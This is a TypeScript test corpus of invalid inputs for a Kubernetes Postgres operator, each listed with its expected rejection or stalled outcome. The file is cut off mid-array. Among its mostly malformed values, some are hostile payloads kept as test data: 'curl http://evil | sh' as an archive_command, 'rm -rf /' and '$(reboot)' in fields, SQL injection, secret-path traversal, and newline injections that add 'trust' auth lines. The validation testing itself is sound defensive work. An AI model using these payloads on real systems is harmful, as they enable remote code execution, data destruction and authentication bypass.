/**
 * A corpus of bad PostgresCluster and PostgresClusterClass inputs, each with the outcome it must have on a real
 * API server with pgfsm's CRDs and the operator running (test/integration/bad-inputs.test.ts):
 *
 * - `rejected`: the API server refuses the write (422, or 400 for the strict decoding of unknown fields that kubectl
 *   asks for) with a message that contains `field`;
 * - `stalled`: the API server accepts it and the PostgresCluster ends with its one `Stalled` condition True, whose
 *   message contains `field` (what only shows once a cluster meets its class, a class that does not exist, and
 *   objects stored before a rule existed or written with validation off);
 * - `reported`: objects stored before a rule (or with validation off) that the API server no longer lets anyone
 *   update, their status included: a CEL rule fails to evaluate on the stored value (a spec or class of the wrong
 *   type, a role Secret name that is a number) on every write. Nothing can be stored on the object, so pgfsm says
 *   it in Events about it: its own judgment's Warning, and one `StatusRejected` Warning with the API server's
 *   words, whose message contains `field`; no finalizer is asked for (nothing will be created).
 *
 * How each input reaches the API server (`via`):
 * - `create`: created as is;
 * - `strict`: created with `fieldValidation=Strict`, as kubectl does, so that unknown fields are refused, not pruned;
 * - `update`: a valid, suspended cluster (`updateBase`) is created, then merge-patched with `patch`;
 * - `stored`: written while the CRD's schema is switched off (as an object stored before a rule existed is), then
 *   the schema comes back before the operator starts.
 *
 * A class input (`clusterClass`) is written first under the name `<id>-class`; when a cluster comes with it, the
 * cluster names that class (unless its spec names another), and the outcome is the cluster's.
 * The table is the array below: one row per input, its expected outcome and the field it must name.
 */

export type Outcome = 'rejected' | 'stalled' | 'reported';
export type Via = 'create' | 'strict' | 'update' | 'stored';

export interface BadInput {
  /** Unique, a DNS-1035 label: the PostgresCluster's name unless `cluster.metadata.name` says otherwise. */
  id: string;
  via: Via;
  expect: Outcome;
  /** Text the API server's message (rejected), the Stalled condition's message (stalled) or the StatusRejected
   * Event's message (reported) must contain. */
  field: string;
  /** Top-level fields of the PostgresCluster over `{ metadata: { name: id }, spec: { class } }`; undefined removes. */
  cluster?: Record<string, unknown>;
  /** Top-level fields of a PostgresClusterClass named `<id>-class`, over a valid class. */
  clusterClass?: Record<string, unknown>;
  /** `update`: the merge patch of the spec. */
  patch?: Record<string, unknown>;
  /** `update`: the spec of the valid cluster the patch applies to (default: updateBase). */
  base?: Record<string, unknown>;
}

export const STANDARD_CLASS = 'standard';
export const updateBase = { storage: '2Gi', postgresVersion: '17', suspend: true };

const MB = 'x'.repeat(1024 * 1024);
const spec = (fields: Record<string, unknown>) => ({ spec: { class: STANDARD_CLASS, ...fields } });
const roles = (...managedRoles: unknown[]) => spec({ managedRoles });
const params = (postgresqlConfig: Record<string, unknown>) => spec({ postgresqlConfig });
const named = (name: string) => ({ metadata: { name }, ...spec({}) });
const role = (name: string, secret?: unknown) =>
  secret === undefined ? { name } : { name, passwordSecretRef: { name: secret } };
const classSpec = (fields: Record<string, unknown>) => ({
  spec: {
    provisioner: 'postgresql.cnpg.io',
    config: { instances: 1, storage: '1Gi', postgresVersion: '17' },
    ...fields,
  },
});
const pooler = (connectionPooler: Record<string, unknown>) =>
  classSpec({ cnpg: { connectionPooler: { instances: 2, mode: 'transaction', ...connectionPooler } } });
/** A class without defaults: the cluster must say everything itself. */
const bareClass = { spec: { provisioner: 'postgresql.cnpg.io' } };
const classConfig = (config: Record<string, unknown>) => ({
  spec: {
    provisioner: 'postgresql.cnpg.io',
    config: { instances: 1, storage: '1Gi', postgresVersion: '17', ...config },
  },
});
const bareSpec = (fields: Record<string, unknown>) => ({ spec: { ...fields } });
/** A class backup policy's store, complete. */
const storePolicy = {
  objectStore: { destinationPath: 's3://pg-backups/prod', credentials: { secretName: 's3-creds' } },
};

// biome-ignore format: one row per input reads as the table it is
export const corpus: BadInput[] = [
  // ---- PostgresCluster: the shape of spec ----
  { id: 'no-spec', via: 'create', expect: 'rejected', field: 'spec: Required value', cluster: { spec: undefined } },
  { id: 'spec-null', via: 'create', expect: 'rejected', field: 'spec: Required value', cluster: { spec: null } },
  { id: 'spec-string', via: 'create', expect: 'rejected', field: 'spec', cluster: { spec: 'standard' } },
  { id: 'spec-array', via: 'create', expect: 'rejected', field: 'spec', cluster: { spec: [{ class: 'standard' }] } },
  { id: 'class-absent', via: 'create', expect: 'rejected', field: 'spec.class', cluster: { spec: { instances: 1 } } },
  { id: 'class-number', via: 'create', expect: 'rejected', field: 'spec.class', cluster: { spec: { class: 7 } } },
  { id: 'class-empty', via: 'create', expect: 'rejected', field: 'spec.class', cluster: { spec: { class: '' } } },
  { id: 'class-slash', via: 'create', expect: 'rejected', field: 'spec.class', cluster: { spec: { class: 'team/standard' } } },
  { id: 'class-sql', via: 'create', expect: 'rejected', field: 'spec.class', cluster: { spec: { class: "standard'; DROP TABLE pg_authid; --" } } },
  { id: 'class-unicode', via: 'create', expect: 'rejected', field: 'spec.class', cluster: { spec: { class: 'stándard' } } },
  { id: 'class-long', via: 'create', expect: 'rejected', field: 'spec.class', cluster: { spec: { class: 'a'.repeat(254) } } },
  // ---- numbers ----
  { id: 'instances-zero', via: 'create', expect: 'rejected', field: 'spec.instances', cluster: spec({ instances: 0 }) },
  { id: 'instances-negative', via: 'create', expect: 'rejected', field: 'spec.instances', cluster: spec({ instances: -3 }) },
  { id: 'instances-eleven', via: 'create', expect: 'rejected', field: 'spec.instances', cluster: spec({ instances: 11 }) },
  { id: 'instances-huge', via: 'create', expect: 'rejected', field: 'spec.instances', cluster: spec({ instances: 1e308 }) },
  { id: 'instances-int64', via: 'create', expect: 'rejected', field: 'spec.instances', cluster: spec({ instances: 2 ** 62 }) },
  { id: 'instances-string', via: 'create', expect: 'rejected', field: 'spec.instances', cluster: spec({ instances: '3' }) },
  { id: 'instances-float', via: 'create', expect: 'rejected', field: 'spec.instances', cluster: spec({ instances: 2.5 }) },
  // ---- quantities and versions ----
  { id: 'storage-10gx', via: 'create', expect: 'rejected', field: 'spec.storage', cluster: spec({ storage: '10Gx' }) },
  { id: 'storage-negative', via: 'create', expect: 'rejected', field: 'spec.storage', cluster: spec({ storage: '-1Gi' }) },
  { id: 'storage-empty', via: 'create', expect: 'rejected', field: 'spec.storage', cluster: spec({ storage: '' }) },
  { id: 'storage-number', via: 'create', expect: 'rejected', field: 'spec.storage', cluster: spec({ storage: 10 }) },
  { id: 'storage-shell', via: 'create', expect: 'rejected', field: 'spec.storage', cluster: spec({ storage: '10Gi; rm -rf /' }) },
  { id: 'storage-subst', via: 'create', expect: 'rejected', field: 'spec.storage', cluster: spec({ storage: '$(reboot)' }) },
  { id: 'storage-long', via: 'create', expect: 'rejected', field: 'spec.storage', cluster: spec({ storage: `${'1'.repeat(64)}Gi` }) },
  { id: 'storage-zero', via: 'create', expect: 'rejected', field: 'spec.storage: Invalid value', cluster: spec({ storage: '0' }) },
  { id: 'storage-milli', via: 'create', expect: 'rejected', field: 'spec.storage: Invalid value', cluster: spec({ storage: '1m' }) },
  { id: 'storage-100k', via: 'create', expect: 'rejected', field: 'spec.storage: Invalid value', cluster: spec({ storage: '100k' }) },
  { id: 'storage-1ki', via: 'create', expect: 'rejected', field: 'spec.storage: Invalid value', cluster: spec({ storage: '1Ki' }) },
  { id: 'storage-1000mi', via: 'create', expect: 'rejected', field: 'spec.storage: Invalid value', cluster: spec({ storage: '1000Mi' }) },
  { id: 'version-12', via: 'create', expect: 'rejected', field: 'spec.postgresVersion', cluster: spec({ postgresVersion: '12' }) },
  { id: 'version-latest', via: 'create', expect: 'rejected', field: 'spec.postgresVersion', cluster: spec({ postgresVersion: 'latest' }) },
  { id: 'version-number', via: 'create', expect: 'rejected', field: 'spec.postgresVersion', cluster: spec({ postgresVersion: 17 }) },
  { id: 'version-pct00', via: 'create', expect: 'rejected', field: 'spec.postgresVersion', cluster: spec({ postgresVersion: '17%00' }) },
  { id: 'cpu-lots', via: 'create', expect: 'rejected', field: 'spec.resources.requests.cpu', cluster: spec({ resources: { requests: { cpu: 'lots' } } }) },
  { id: 'request-over-limit', via: 'create', expect: 'rejected', field: 'resources.requests.memory', cluster: spec({ resources: { requests: { memory: '2Gi' }, limits: { memory: '1Gi' } } }) },
  { id: 'resources-many', via: 'create', expect: 'rejected', field: 'spec.resources.requests', cluster: spec({ resources: { requests: Object.fromEntries(Array.from({ length: 17 }, (_, i) => [`example.com/r${i}`, '1'])) } }) },
  { id: 'hugepages-alone', via: 'create', expect: 'rejected', field: 'spec.resources', cluster: spec({ resources: { limits: { 'hugepages-2Mi': '1Gi' } } }) },
  { id: 'resource-gpu', via: 'create', expect: 'rejected', field: 'spec.resources.requests: Invalid value: nvidia.com/gpu is no resource', cluster: spec({ resources: { requests: { cpu: '1', 'nvidia.com/gpu': '1' } } }) },
  { id: 'resource-storage', via: 'create', expect: 'rejected', field: 'spec.resources.limits: Invalid value: storage is no resource', cluster: spec({ resources: { limits: { storage: '10Gi' } } }) },
  { id: 'resource-pages-ki', via: 'create', expect: 'rejected', field: 'spec.resources.limits: Invalid value: hugepages-2048Ki is no resource', cluster: spec({ resources: { limits: { memory: '1Gi', 'hugepages-2048Ki': '1Gi' } } }) },
  // ---- PostgreSQL parameters ----
  { id: 'param-port', via: 'create', expect: 'rejected', field: 'postgresqlConfig.port', cluster: params({ port: '5433' }) },
  { id: 'param-listen', via: 'create', expect: 'rejected', field: 'postgresqlConfig.listen_addresses', cluster: params({ listen_addresses: '*' }) },
  { id: 'param-preload', via: 'create', expect: 'rejected', field: 'postgresqlConfig.shared_preload_libraries', cluster: params({ shared_preload_libraries: 'evil' }) },
  { id: 'param-archive-shell', via: 'create', expect: 'rejected', field: 'postgresqlConfig.archive_command', cluster: params({ archive_command: 'curl http://evil | sh' }) },
  { id: 'wal-level-minimal', via: 'create', expect: 'rejected', field: 'postgresqlConfig.wal_level', cluster: params({ wal_level: 'minimal' }) },
  { id: 'wal-log-hints-maybe', via: 'create', expect: 'rejected', field: 'postgresqlConfig.wal_log_hints', cluster: params({ wal_log_hints: 'maybe' }) },
  { id: 'shared-buffers-lots', via: 'create', expect: 'rejected', field: 'postgresqlConfig.shared_buffers', cluster: params({ shared_buffers: 'lots' }) },
  { id: 'wal-sizes-inverted', via: 'create', expect: 'rejected', field: 'postgresqlConfig.min_wal_size', cluster: params({ min_wal_size: '2GB', max_wal_size: '1GB' }) },
  { id: 'wal-log-hints-off-3', via: 'create', expect: 'rejected', field: 'postgresqlConfig.wal_log_hints', cluster: spec({ instances: 3, postgresqlConfig: { wal_log_hints: 'off' } }) },
  { id: 'buffers-over-memory', via: 'create', expect: 'rejected', field: 'resources.requests.memory', cluster: spec({ postgresqlConfig: { shared_buffers: '2GB' }, resources: { requests: { memory: '1Gi' } } }) },
  { id: 'param-number', via: 'create', expect: 'rejected', field: 'spec.postgresqlConfig.max_connections', cluster: params({ max_connections: 100 }) },
  { id: 'param-1mb', via: 'create', expect: 'rejected', field: 'spec.postgresqlConfig.work_mem', cluster: params({ work_mem: MB }) },
  { id: 'param-name-long', via: 'create', expect: 'rejected', field: 'spec.postgresqlConfig', cluster: params({ [`x${'y'.repeat(200)}`]: '1' }) },
  { id: 'params-many', via: 'create', expect: 'rejected', field: 'spec.postgresqlConfig', cluster: params(Object.fromEntries(Array.from({ length: 257 }, (_, i) => [`app.p${i}`, '1']))) },
  { id: 'param-key-newline', via: 'create', expect: 'rejected', field: 'spec.postgresqlConfig', cluster: params({ "work_mem = '1MB'\nport": '5433' }) },
  { id: 'param-key-space', via: 'create', expect: 'rejected', field: 'spec.postgresqlConfig', cluster: params({ 'work mem': '4MB' }) },
  { id: 'param-key-unicode', via: 'create', expect: 'rejected', field: 'spec.postgresqlConfig', cluster: params({ 'wörk_mem': '4MB' }) },
  { id: 'param-value-newline', via: 'create', expect: 'rejected', field: 'spec.postgresqlConfig.work_mem', cluster: params({ work_mem: "4MB'\nport = '5433" }) },
  { id: 'param-value-cr', via: 'create', expect: 'rejected', field: 'spec.postgresqlConfig.log_connections', cluster: params({ log_connections: 'on\rport = 5433' }) },
  { id: 'param-value-nul', via: 'create', expect: 'rejected', field: 'spec.postgresqlConfig.work_mem', cluster: params({ work_mem: '4MB\u0000' }) },
  // ---- pg_hba ----
  { id: 'pghba-string', via: 'create', expect: 'rejected', field: 'spec.pgHBA', cluster: spec({ pgHBA: 'host all all 0.0.0.0/0 trust' }) },
  { id: 'pghba-1mb', via: 'create', expect: 'rejected', field: 'spec.pgHBA[0]', cluster: spec({ pgHBA: [MB] }) },
  { id: 'pghba-many', via: 'create', expect: 'rejected', field: 'spec.pgHBA', cluster: spec({ pgHBA: Array.from({ length: 257 }, () => 'host all all 10.0.0.0/8 scram-sha-256') }) },
  { id: 'pghba-newline', via: 'create', expect: 'rejected', field: 'spec.pgHBA[0]', cluster: spec({ pgHBA: ['host all all 10.0.0.0/8 scram-sha-256\nhost all all 0.0.0.0/0 trust'] }) },
  { id: 'pghba-reference', via: 'create', expect: 'rejected', field: 'spec.pgHBA[0]', cluster: spec({ pgHBA: ['host all all \u0024{podselector:app} scram-sha-256'] }) },
  // ---- managed roles and their Secrets ----
  { id: 'pooler-yes', via: 'create', expect: 'rejected', field: 'spec.connectionPoolerEnabled', cluster: spec({ connectionPoolerEnabled: 'yes' }) },
  { id: 'roles-string', via: 'create', expect: 'rejected', field: 'spec.managedRoles', cluster: spec({ managedRoles: 'app' }) },
  { id: 'roles-object', via: 'create', expect: 'rejected', field: 'spec.managedRoles', cluster: spec({ managedRoles: { name: 'app' } }) },
  { id: 'role-postgres', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].name', cluster: roles(role('postgres')) },
  { id: 'role-pg-monitor', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].name', cluster: roles(role('pg_monitor')) },
  { id: 'role-cnpg', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].name', cluster: roles(role('cnpg_pooler_pgbouncer')) },
  { id: 'role-empty', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].name', cluster: roles(role('')) },
  { id: 'role-long', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].name', cluster: roles(role('r'.repeat(64))) },
  { id: 'role-public', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].name: Invalid value', cluster: roles(role('public')) },
  { id: 'role-none', via: 'create', expect: 'rejected', field: 'spec.managedRoles[1].name: Invalid value', cluster: roles(role('app'), role('none')) },
  // 32 characters of two bytes each: within maxLength, one byte over what PostgreSQL keeps.
  { id: 'role-64-bytes', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].name: Invalid value', cluster: roles(role('é'.repeat(32))) },
  // Equal in their first 63 bytes, so one role to PostgreSQL: both are over the bound.
  { id: 'role-cut-twins', via: 'create', expect: 'rejected', field: 'spec.managedRoles[1].name: Invalid value', cluster: roles(role('app'), role(`${'é'.repeat(31)}a1`), role(`${'é'.repeat(31)}a2`)) },
  { id: 'role-nul', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].name', cluster: roles(role('app\u0000')) },
  { id: 'role-newline', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].name', cluster: roles(role('app\nadmin')) },
  { id: 'role-duplicate', via: 'create', expect: 'rejected', field: 'spec.managedRoles[1]', cluster: roles(role('app'), role('app')) },
  { id: 'role-nameless', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].name', cluster: roles({ exists: true }) },
  { id: 'ref-slash', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].passwordSecretRef.name', cluster: roles(role('app', 'team/app-password')) },
  { id: 'ref-traversal', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].passwordSecretRef.name', cluster: roles(role('app', '../../kube-system/token')) },
  { id: 'ref-upper', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].passwordSecretRef.name', cluster: roles(role('app', 'App-Password')) },
  { id: 'ref-newline', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].passwordSecretRef.name', cluster: roles(role('app', 'app\npassword')) },
  { id: 'ref-empty', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].passwordSecretRef.name', cluster: roles(role('app', '')) },
  { id: 'ref-string', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].passwordSecretRef', cluster: roles({ name: 'app', passwordSecretRef: 'app-password' }) },
  { id: 'role-exists-no', via: 'create', expect: 'rejected', field: 'spec.managedRoles[0].exists', cluster: roles({ name: 'app', exists: 'no' }) },
  { id: 'roles-many', via: 'create', expect: 'rejected', field: 'spec.managedRoles', cluster: roles(...Array.from({ length: 129 }, (_, i) => role(`r${i}`))) },
  // ---- enums, booleans, unknown fields ----
  { id: 'policy-destroy', via: 'create', expect: 'rejected', field: 'spec.clusterDeletionPolicy', cluster: spec({ clusterDeletionPolicy: 'Destroy' }) },
  { id: 'policy-lower', via: 'create', expect: 'rejected', field: 'spec.clusterDeletionPolicy', cluster: spec({ clusterDeletionPolicy: 'delete' }) },
  { id: 'suspend-string', via: 'create', expect: 'rejected', field: 'spec.suspend', cluster: spec({ suspend: 'true' }) },
  { id: 'unknown-field', via: 'strict', expect: 'rejected', field: 'spec.replicas', cluster: spec({ replicas: 3 }) },
  { id: 'unknown-top', via: 'strict', expect: 'rejected', field: 'specc', cluster: { specc: { class: 'standard' } } },
  // ---- names and metadata ----
  { id: 'name-upper', via: 'create', expect: 'rejected', field: 'metadata.name', cluster: named('Orders') },
  { id: 'name-unicode', via: 'create', expect: 'rejected', field: 'metadata.name', cluster: named('données') },
  { id: 'name-51', via: 'create', expect: 'rejected', field: 'metadata.name', cluster: named('n'.repeat(51)) },
  { id: 'name-254', via: 'create', expect: 'rejected', field: 'metadata.name', cluster: named('n'.repeat(254)) },
  { id: 'name-dot', via: 'create', expect: 'rejected', field: 'metadata.name', cluster: named('orders.v2') },
  { id: 'name-digit', via: 'create', expect: 'rejected', field: 'metadata.name', cluster: named('1orders') },
  { id: 'name-newline', via: 'create', expect: 'rejected', field: 'metadata.name', cluster: named('orders\nx') },
  { id: 'annotation-1mb', via: 'create', expect: 'rejected', field: 'metadata.annotations', cluster: { metadata: { name: 'annotation-1mb', annotations: { note: MB } } } },
  { id: 'label-shell', via: 'create', expect: 'rejected', field: 'metadata.labels', cluster: { metadata: { name: 'label-shell', labels: { app: '$(rm -rf /)' } } } },
  // ---- PostgresClusterClass ----
  { id: 'k-no-spec', via: 'create', expect: 'rejected', field: 'spec: Required value', clusterClass: { spec: undefined } },
  { id: 'k-no-provisioner', via: 'create', expect: 'rejected', field: 'spec.provisioner', clusterClass: { spec: { config: { instances: 1 } } } },
  { id: 'k-provisioner', via: 'create', expect: 'rejected', field: 'spec.provisioner', clusterClass: { spec: { provisioner: 'example.com/postgres' } } },
  { id: 'k-instances-11', via: 'create', expect: 'rejected', field: 'spec.config.instances', clusterClass: classConfig({ instances: 11 }) },
  { id: 'k-storage-10gx', via: 'create', expect: 'rejected', field: 'spec.config.storage', clusterClass: classConfig({ storage: '10Gx' }) },
  { id: 'k-storage-milli', via: 'create', expect: 'rejected', field: 'spec.config.storage: Invalid value', clusterClass: classConfig({ storage: '1m' }) },
  { id: 'k-resource-gpu', via: 'create', expect: 'rejected', field: 'spec.config.resources.limits: Invalid value: example.com/gpu is no resource', clusterClass: classConfig({ resources: { limits: { memory: '1Gi', 'example.com/gpu': '1' } } }) },
  { id: 'k-param-port', via: 'create', expect: 'rejected', field: 'postgresqlConfig.port', clusterClass: classConfig({ postgresqlConfig: { port: '5433' } }) },
  { id: 'k-mode-statement', via: 'create', expect: 'rejected', field: 'spec.cnpg.connectionPooler.mode', clusterClass: pooler({ mode: 'statement' }) },
  { id: 'k-pooler-zero', via: 'create', expect: 'rejected', field: 'spec.cnpg.connectionPooler.instances', clusterClass: pooler({ instances: 0 }) },
  { id: 'k-pooler-huge', via: 'create', expect: 'rejected', field: 'spec.cnpg.connectionPooler.instances', clusterClass: pooler({ instances: 1e9 }) },
  { id: 'k-listen-port', via: 'create', expect: 'rejected', field: 'cnpg.connectionPooler.parameters.listen_port', clusterClass: pooler({ parameters: { listen_port: '6543' } }) },
  { id: 'k-pool-mode-param', via: 'create', expect: 'rejected', field: 'cnpg.connectionPooler.parameters.pool_mode', clusterClass: pooler({ parameters: { pool_mode: 'statement' } }) },
  { id: 'k-pooler-1mb', via: 'create', expect: 'rejected', field: 'spec.cnpg.connectionPooler.parameters.default_pool_size', clusterClass: pooler({ parameters: { default_pool_size: MB } }) },
  { id: 'k-pooler-newline', via: 'create', expect: 'rejected', field: 'spec.cnpg.connectionPooler.parameters.default_pool_size', clusterClass: pooler({ parameters: { default_pool_size: '10\nauth_type = trust' } }) },
  { id: 'k-update-reboot', via: 'create', expect: 'rejected', field: 'spec.cnpg.primaryUpdateMethod', clusterClass: classSpec({ cnpg: { primaryUpdateMethod: 'reboot' } }) },
  { id: 'k-pooler-unset', via: 'create', expect: 'rejected', field: 'spec.cnpg', clusterClass: classConfig({ connectionPoolerEnabled: true }) },
  // ---- the day-one CNPG fields ----
  { id: 'image-latest', via: 'create', expect: 'rejected', field: 'spec.imageName', cluster: spec({ imageName: 'ghcr.io/cloudnative-pg/postgresql:latest' }) },
  { id: 'image-digest-only', via: 'create', expect: 'rejected', field: 'spec.imageName', cluster: spec({ imageName: `postgres@sha256:${'a'.repeat(64)}` }) },
  { id: 'image-other-major', via: 'create', expect: 'rejected', field: 'spec.postgresVersion', cluster: spec({ imageName: 'ghcr.io/cloudnative-pg/postgresql:18.1', postgresVersion: '17' }) },
  { id: 'wal-small', via: 'create', expect: 'rejected', field: 'spec.walStorage.size', cluster: spec({ walStorage: { size: '100Mi' } }) },
  { id: 'storage-class-upper', via: 'create', expect: 'rejected', field: 'spec.storageClass', cluster: spec({ storageClass: 'Fast_SSD' }) },
  { id: 'toleration-no-key', via: 'create', expect: 'rejected', field: 'spec.affinity.tolerations[0]', cluster: spec({ affinity: { tolerations: [{ operator: 'Equal', value: 'x' }] } }) },
  { id: 'toleration-seconds', via: 'create', expect: 'rejected', field: 'spec.affinity.tolerations[0]', cluster: spec({ affinity: { tolerations: [{ key: 'k', effect: 'NoSchedule', tolerationSeconds: 5 }] } }) },
  { id: 'node-selector-key', via: 'create', expect: 'rejected', field: 'spec.affinity.nodeSelector', cluster: spec({ affinity: { nodeSelector: { 'disk type': 'ssd' } } }) },
  { id: 'anti-affinity-strict', via: 'create', expect: 'rejected', field: 'spec.affinity.podAntiAffinityType', cluster: spec({ affinity: { podAntiAffinityType: 'strict' } }) },
  { id: 'tsc-min-domains', via: 'create', expect: 'rejected', field: 'spec.topologySpreadConstraints[0]', cluster: spec({ topologySpreadConstraints: [{ maxSkew: 1, topologyKey: 'zone', whenUnsatisfiable: 'ScheduleAnyway', minDomains: 2 }] }) },
  { id: 'k-image-latest', via: 'create', expect: 'rejected', field: 'spec.config.imageName', clusterClass: classConfig({ imageName: 'postgres:latest' }) },
  // ---- updates of a valid cluster ----
  { id: 'u-class-change', via: 'update', expect: 'rejected', field: 'spec.class', patch: { class: 'premium' } },
  { id: 'u-storage-shrink', via: 'update', expect: 'rejected', field: 'spec.storage', patch: { storage: '1Gi' } },
  { id: 'u-storage-removed', via: 'update', expect: 'rejected', field: 'spec.storage', patch: { storage: null } },
  { id: 'u-version-down', via: 'update', expect: 'rejected', field: 'spec.postgresVersion', patch: { postgresVersion: '16' } },
  { id: 'u-version-removed', via: 'update', expect: 'rejected', field: 'spec.postgresVersion', patch: { postgresVersion: null } },
  { id: 'u-upgrade-to-15', via: 'update', expect: 'rejected', field: 'spec.postgresVersion', base: { ...updateBase, postgresVersion: '13' }, patch: { postgresVersion: '15' } },
  { id: 'u-roles-string', via: 'update', expect: 'rejected', field: 'spec.managedRoles', patch: { managedRoles: 'app' } },
  { id: 'u-storage-class-change', via: 'update', expect: 'rejected', field: 'spec.storageClass', base: { ...updateBase, storageClass: 'fast' }, patch: { storageClass: 'slow' } },
  { id: 'u-storage-class-added', via: 'update', expect: 'rejected', field: 'spec.storageClass', patch: { storageClass: 'fast' } },
  { id: 'u-wal-class-added', via: 'update', expect: 'rejected', field: 'spec.walStorage.storageClass', base: { ...updateBase, walStorage: { size: '2Gi' } }, patch: { walStorage: { storageClass: 'wal' } } },
  { id: 'u-wal-removed', via: 'update', expect: 'rejected', field: 'spec.walStorage', base: { ...updateBase, walStorage: { size: '2Gi' } }, patch: { walStorage: null } },
  { id: 'u-wal-shrink', via: 'update', expect: 'rejected', field: 'spec.walStorage.size', base: { ...updateBase, walStorage: { size: '2Gi' } }, patch: { walStorage: { size: '1Gi' } } },
  { id: 'u-image-down', via: 'update', expect: 'rejected', field: 'spec.imageName', base: { storage: '2Gi', imageName: 'postgres:17.2', suspend: true }, patch: { imageName: 'postgres:16.4' } },
  { id: 'u-storage-set-small', via: 'update', expect: 'rejected', field: 'spec.storage: Invalid value', base: { postgresVersion: '17', suspend: true }, patch: { storage: '512Mi' } },
  // ---- accepted, then Stalled once the cluster meets its class ----
  { id: 's-class-missing', via: 'create', expect: 'stalled', field: 'spec.class', cluster: { spec: { class: 'no-such-class' } } },
  { id: 's-no-instances', via: 'create', expect: 'stalled', field: 'spec.instances', clusterClass: bareClass, cluster: bareSpec({ storage: '1Gi', postgresVersion: '17' }) },
  { id: 's-no-storage', via: 'create', expect: 'stalled', field: 'spec.storage', clusterClass: bareClass, cluster: bareSpec({ instances: 1, postgresVersion: '17' }) },
  { id: 's-no-version', via: 'create', expect: 'stalled', field: 'spec.postgresVersion', clusterClass: bareClass, cluster: bareSpec({ instances: 1, storage: '1Gi' }) },
  { id: 's-pooler-unset', via: 'create', expect: 'stalled', field: 'spec.connectionPoolerEnabled', clusterClass: classConfig({}), cluster: bareSpec({ connectionPoolerEnabled: true }) },
  { id: 's-class-buffers', via: 'create', expect: 'stalled', field: 'spec.resources.requests.memory', clusterClass: classConfig({ postgresqlConfig: { shared_buffers: '2GB' } }), cluster: bareSpec({ resources: { requests: { memory: '1Gi' } } }) },
  { id: 's-class-memory', via: 'create', expect: 'stalled', field: 'spec.config.resources.requests.memory', clusterClass: classConfig({ resources: { requests: { memory: '256Mi' } } }), cluster: bareSpec({ postgresqlConfig: { shared_buffers: '1GB' } }) },
  { id: 's-class-instances', via: 'create', expect: 'stalled', field: 'spec.postgresqlConfig.wal_log_hints', clusterClass: classConfig({ instances: 3 }), cluster: bareSpec({ postgresqlConfig: { wal_log_hints: 'off' } }) },
  { id: 's-class-wal', via: 'create', expect: 'stalled', field: 'spec.postgresqlConfig.min_wal_size', clusterClass: classConfig({ postgresqlConfig: { max_wal_size: '1GB' } }), cluster: bareSpec({ postgresqlConfig: { min_wal_size: '2GB' } }) },
  { id: 's-class-image', via: 'create', expect: 'stalled', field: 'spec.postgresVersion', clusterClass: classConfig({ imageName: 'ghcr.io/cloudnative-pg/postgresql:17.2' }), cluster: bareSpec({ postgresVersion: '18' }) },
  { id: 's-failover-slots', via: 'create', expect: 'stalled', field: 'spec.postgresqlConfig.hot_standby_feedback', cluster: params({ 'pg_failover_slots.synchronize_slot_names': 'name_like:%' }) },
  // ---- backups and restore (issue 36) ----
  { id: 'k-backup-no-credentials', via: 'create', expect: 'rejected', field: 'spec.backup.objectStore.credentials', clusterClass: classSpec({ backup: { objectStore: { destinationPath: 's3://pg-backups/prod' }, schedule: '30 2 * * *', retention: '7d' } }) },
  { id: 'k-backup-six-fields', via: 'create', expect: 'rejected', field: 'spec.backup.schedule', clusterClass: classSpec({ backup: { ...storePolicy, schedule: '0 30 2 * * *', retention: '7d' } }) },
  { id: 'restore-no-zone', via: 'create', expect: 'rejected', field: 'spec.restore.targetTime', cluster: spec({ restore: { source: { cluster: 'orders' }, targetTime: '2026-11-20T10:15:30' } }) },
  { id: 'restore-two-sources', via: 'create', expect: 'rejected', field: 'spec.restore.source', cluster: spec({ restore: { source: { cluster: 'orders', serverName: 'orders-3f2a9c1d' } } }) },
  { id: 's-restore-no-store', via: 'create', expect: 'stalled', field: 'spec.restore', cluster: spec({ restore: { source: { cluster: 'orders' } } }) },
  { id: 's-backup-no-policy', via: 'create', expect: 'stalled', field: 'spec.backup.enabled', cluster: spec({ backup: { enabled: true } }) },
  // ---- stored before a rule existed, or with validation off ----
  { id: 't-no-spec', via: 'stored', expect: 'stalled', field: 'spec: Expected object', cluster: { spec: undefined } },
  { id: 't-spec-string', via: 'stored', expect: 'reported', field: 'spec: Invalid value', cluster: { spec: 'standard' } },
  { id: 't-class-number', via: 'stored', expect: 'reported', field: 'spec.class: Invalid value', cluster: { spec: { class: 7 } } },
  { id: 't-class-empty', via: 'stored', expect: 'stalled', field: 'spec.class', cluster: { spec: { class: '' } } },
  { id: 't-pghba-reference', via: 'stored', expect: 'stalled', field: 'spec.pgHBA[1]', cluster: spec({ pgHBA: ['host all all 10.0.0.0/8 scram-sha-256', 'host all all \u0024{podselector:app} scram-sha-256'] }) },
  { id: 't-roles-string', via: 'stored', expect: 'stalled', field: 'spec.managedRoles', cluster: spec({ managedRoles: 'app' }) },
  { id: 't-roles-object', via: 'stored', expect: 'stalled', field: 'spec.managedRoles', cluster: spec({ managedRoles: { name: 'app' } }) },
  { id: 't-roles-number', via: 'stored', expect: 'stalled', field: 'spec.managedRoles', cluster: spec({ managedRoles: 7 }) },
  { id: 't-role-null', via: 'stored', expect: 'stalled', field: 'spec.managedRoles[0]: Expected object', cluster: roles(null) },
  { id: 't-ref-slash', via: 'stored', expect: 'stalled', field: 'spec.managedRoles[0].passwordSecretRef.name', cluster: roles(role('app', 'team/app-password')) },
  { id: 't-ref-number', via: 'stored', expect: 'reported', field: 'spec.managedRoles[0].passwordSecretRef.name: Invalid value', cluster: roles({ name: 'app', passwordSecretRef: { name: 7 } }) },
  { id: 't-role-postgres', via: 'stored', expect: 'stalled', field: 'spec.managedRoles[0].name', cluster: roles(role('postgres')) },
